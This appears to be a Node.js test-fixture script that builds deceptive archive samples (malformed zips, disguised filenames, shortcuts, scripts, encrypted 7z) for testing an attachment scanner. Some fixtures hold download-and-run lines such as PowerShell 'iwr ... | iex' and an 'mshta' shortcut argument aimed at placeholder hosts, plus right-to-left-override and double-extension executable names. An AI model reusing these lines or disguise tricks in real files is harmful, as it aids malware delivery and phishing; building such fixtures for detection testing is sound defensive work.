// Archives that say one thing and hold another, names that hide what they are, and what other programs pack.
import { gzipSync } from 'node:zlib';
import { at, link, plant, qrPng, read, run, write, zip } from './plant.mjs';

const url = (name, rest = 'a') => `https://${name}.held.example.com/${rest}`;
const one = (name, rest) => ({ urls: [url(name, rest)] });
const page = (name) => `<html><body><a href="${url(name)}">Open</a></body></html>`;
const packed = (file, planted, entries, options) => plant(file, { kind: 'zip', ...planted }, zip(entries, options));
const python = (script) => run(process.env.PYTHON ?? 'python3', ['-c', script]);

export function makeArchives() {
	const [first, second] = [
		zip([{ name: 'a.html', content: page('firstzip') }]),
		zip([{ name: 'b.html', content: page('secondzip') }]),
	];
	plant(
		'joined.zip',
		{ kind: 'zip', urls: [url('firstzip'), url('secondzip')], flags: ['damaged'] },
		Buffer.concat([first, second]),
	);
	packed(
		'unlisted.zip',
		{ urls: [url('listed'), url('unlisted')], flags: ['damaged'] },
		[
			{ name: 'unlisted.html', content: page('unlisted'), isUnlisted: true },
			{ name: 'listed.html', content: page('listed') },
		],
		{ count: 1 },
	);
	packed('two-names.zip', { flags: ['damaged', 'executable-inside'] }, [
		{ name: 'invoice.txt', localName: 'invoice.exe', content: 'x' },
	]);
	packed('count-zero.zip', one('countzero'), [{ name: 'a.html', content: page('countzero') }], { count: 0 });
	packed('comment-end.zip', one('commentend'), [{ name: 'a.html', content: page('commentend') }], {
		comment: `PK\x05\x06${'\0'.repeat(18)}`,
	});
	packed('same-place.zip', { urls: [url('sameplace')], anyNotRead: true }, [
		{ name: 'a.html', content: page('sameplace') },
		{ name: 'b.html', content: page('sameplace'), offsetLie: 0 },
	]);
	packed('code-page-437.zip', { ...one('codepage'), children: ['Rechnung_für_März.html'] }, [
		{ name: Buffer.from('Rechnung_f\x81r_M\x84rz.html', 'latin1'), content: page('codepage') },
	]);
	packed('unicode-name.zip', { ...one('unicodename'), children: ['фактура.html'] }, [
		{ name: 'фактура.html', flags: 0x800, content: page('unicodename') },
	]);
	packed('hidden-direction.zip', { flags: ['executable-inside'], insideFlags: ['invisible-in-name'] }, [
		{ name: 'invoice\u202excod.exe', flags: 0x800, content: 'MZ' },
	]);
	packed('two-endings.zip', { ...one('twoendings'), insideFlags: ['double-extension'] }, [
		{ name: 'Invoice.pdf.html', content: page('twoendings') },
	]);
	packed('blanks.zip', { flags: ['executable-inside'], insideFlags: ['double-extension'] }, [
		{ name: `Invoice.pdf${' '.repeat(120)}.exe`, content: 'MZ' },
	]);
	python(`
import zipfile, io
with zipfile.ZipFile('wide.zip','w') as z:
    with z.open('a.html','w',force_zip64=True) as f: f.write(${JSON.stringify(page('zip64'))}.encode())
class Pipe(io.RawIOBase):
    def __init__(self): self.b=bytearray()
    def writable(self): return True
    def write(self,d): self.b+=bytes(d); return len(d)
p=Pipe()
with zipfile.ZipFile(p,'w',zipfile.ZIP_DEFLATED) as z: z.writestr('a.html',${JSON.stringify(page('streamed'))})
open('streamed.zip','wb').write(p.b)
open('streamed-cut.zip','wb').write(p.b[:-60])
`);
	plant('wide.zip', { kind: 'zip', ...one('zip64') }, read('wide.zip'));
	plant('streamed.zip', { kind: 'zip', ...one('streamed') }, read('streamed.zip'));
	plant('streamed-cut.zip', { kind: 'zip', ...one('streamed'), flags: ['damaged'] }, read('streamed-cut.zip'));
	packed('new-method.zip', { notRead: ['method'] }, [
		{ name: 'a.html', method: 93, packed: Buffer.from('28b52ffd2400010000', 'hex'), content: 'x' },
	]);

	/* What lies in them. */
	packed('message.zip', one('zippedmail'), [
		{
			name: 'a.eml',
			content: `From: a@example.net\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page('zippedmail')}`,
		},
	]);
	packed('shortcuts.zip', { urls: [url('weblink', 'x'), url('desktop'), url('webloc')].sort(), flags: ['shortcut'] }, [
		{ name: 'Invoice.url', content: `[InternetShortcut]\r\nURL=${url('weblink', 'x')}\r\n` },
		{ name: 'a.desktop', content: `[Desktop Entry]\nType=Link\nURL=${url('desktop')}\n` },
		{
			name: 'a.webloc',
			content: `<?xml version="1.0"?><plist><dict><key>URL</key><string>${url('webloc')}</string></dict></plist>`,
		},
	]);
	packed('calendar.zip', one('calendar', 'join/meeting?id=12345'), [
		{
			name: 'invite.ics',
			content:
				'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://calendar.held.example.com/join/mee\r\n ting?id=12345\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
		},
	]);
	packed('contact.zip', one('contact'), [
		{
			name: 'a.vcf',
			content: `BEGIN:VCARD\r\nVERSION:3.0\r\nURL:https://contact.held.ex\r\n ample.com/a\r\nEND:VCARD\r\n`,
		},
	]);
	packed(
		'scripts.zip',
		{ urls: [url('powershell'), url('visualbasic'), url('jscript')].sort(), flags: ['script-inside'] },
		[
			{ name: 'a.ps1', content: `iwr '${url('powershell')}' | iex` },
			{ name: 'a.vbs', content: `CreateObject("MSXML2.XMLHTTP").open "GET", "${url('visualbasic')}"` },
			{ name: 'a.js', content: `var u = 'https://jscript.held.' + 'example.com/a'; WScript.Shell(u)` },
		],
	);
	const text = url('lnkargument');
	packed('link.zip', { urls: [text], flags: ['shortcut'] }, [
		{
			name: 'Invoice.pdf.lnk',
			content: Buffer.concat([
				Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
				Buffer.from('a0000000', 'hex'),
				Buffer.alloc(52),
				Buffer.from([text.length + 6, 0]),
				Buffer.from(`mshta ${text}`, 'utf16le'),
			]),
		},
	]);
	packed('code-inside.zip', { urls: [url('zippedcode')], codes: [link(url('zippedcode'))] }, [
		{ name: 'scan.png', content: qrPng(url('zippedcode'), 4) },
	]);
	packed('inner-archives.zip', { ...one('innertar'), others: true }, [{ name: 'a.tar.gz', content: tarball() }]);
	plant(
		'two-members.gz',
		{ kind: 'archive', name: 'page.html.gz', ...one('twomembers'), others: true },
		Buffer.concat([
			gzipSync(Buffer.from(page('twomembers').slice(0, 30))),
			gzipSync(Buffer.from(page('twomembers').slice(30))),
		]),
	);
	plant(
		'pax.tar',
		{ kind: 'archive', ...one('paxtar'), others: true, children: [`${'long-'.repeat(30)}name.html`] },
		tar('pax', `${'long-'.repeat(30)}name.html`, page('paxtar')),
	);
	plant('plain-old.tar', { kind: 'archive', ...one('v7tar'), others: true }, tar('v7', 'a.html', page('v7tar')));

	/* What needs the extra library. */
	const needs = { others: true, library: true };
	write('in.html', page('sevenzip'));
	run('7zz', ['a', '-t7z', at('a.7z'), at('in.html')]);
	plant('page.7z', { kind: 'archive', ...needs, ...one('sevenzip') }, read('a.7z'));
	run('7zz', ['a', '-t7z', '-pXy-77', '-mhe=on', at('b.7z'), at('in.html')]);
	plant(
		'sealed.7z',
		{
			kind: 'archive',
			...needs,
			...one('sevenzip'),
			body: 'The password is Xy-77',
			flags: ['password-protected', 'password-in-message'],
		},
		read('b.7z'),
	);
	plant('inner-7z.zip', { kind: 'zip', ...needs, ...one('sevenzip') }, zip([{ name: 'a.7z', content: read('a.7z') }]));
	run('xorriso', ['-as', 'mkisofs', '-J', '-R', '-o', at('a.iso'), at('in.html')]);
	const iso = read('a.iso');
	plant(
		'image.iso',
		{ kind: 'archive', ...needs, ...one('sevenzip'), flags: ['disk-image'] },
		iso.subarray(0, iso.lastIndexOf('</html>') + 2_048),
	);
	run('7zz', ['a', '-txz', at('in.html.xz'), at('in.html')]);
	plant('in.html.xz', { kind: 'archive', ...needs, ...one('sevenzip') }, read('in.html.xz'));
	run('7zz', ['a', '-tbzip2', at('in.html.bz2'), at('in.html')]);
	plant('in.html.bz2', { kind: 'archive', ...needs, ...one('sevenzip') }, read('in.html.bz2'));
	plant(
		'cut.rar',
		{ kind: 'archive', others: true, library: true, broken: true },
		Buffer.from('526172211a0701003392b5e50a01050600050101808000', 'hex'),
	);
	write('in.html', page('sevenzip').repeat(60));
	for (const [name, method] of [
		['deflate64', 'Deflate64'],
		['lzma', 'LZMA'],
		['ppmd', 'PPMd'],
	]) {
		run('7zz', ['a', '-tzip', `-mm=${method}`, at(`${name}.zip`), at('in.html')]);
		plant(`method-${name}.zip`, { kind: 'zip', notRead: ['method'] }, read(`${name}.zip`));
	}
}

function tar(format, name, content) {
	write('entry.bin', content);
	python(`
import tarfile, io
d=open('entry.bin','rb').read()
with tarfile.open('made.tar','w',format=tarfile.${format === 'pax' ? 'PAX_FORMAT' : 'USTAR_FORMAT'}) as t:
    i=tarfile.TarInfo(${JSON.stringify(name)}); i.size=len(d)
    if ${format === 'pax' ? 'True' : 'False'}: i.pax_headers={'comment':'x'}
    t.addfile(i, io.BytesIO(d))
`);
	const bytes = read('made.tar');
	if (format === 'pax') return bytes.subarray(0, Math.ceil(bytes.length / 512) * 512);
	// Before POSIX there was no mark.
	bytes.fill(0, 257, 265);
	let sum = 0;
	bytes.fill(0x20, 148, 156);
	for (let i = 0; i < 512; i++) sum += bytes[i];
	bytes.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
	return bytes.subarray(0, 2_048);
}

const tarball = () => gzipSync(tar('v7-mark', 'a.html', page('innertar')));
